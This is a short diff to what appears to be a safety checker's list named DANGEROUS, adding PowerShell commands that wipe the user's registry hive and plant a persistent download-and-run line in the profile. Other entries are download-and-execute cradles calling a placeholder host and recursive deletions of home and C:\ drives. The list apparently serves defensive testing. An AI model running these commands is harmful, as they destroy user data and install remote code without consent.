@@ -19,6 +19,8 @@ DANGEROUS = [
     "iex (New-Object Net.WebClient).DownloadString('http://x.example/a')",
     "(New-Object Net.WebClient).DownloadFile('http://x.example/a', 'a.exe'); Invoke-Expression (iwr http://x.example/b)",
     r"Remove-Item -Path $HOME\* -Recurse -Force -ErrorAction SilentlyContinue",
+    r"Remove-Item HKCU:\Software -Recurse",
+    r"Add-Content -Path $PROFILE -Value 'iex (irm https://x.example/i)'",
     "Remove-Item -Recurse -Force C:\\",
     "Get-ChildItem C:\\ -Recurse | Remove-Item -Force",
     "if (Test-Path ~) { Remove-Item ~ -Recurse -Force }",
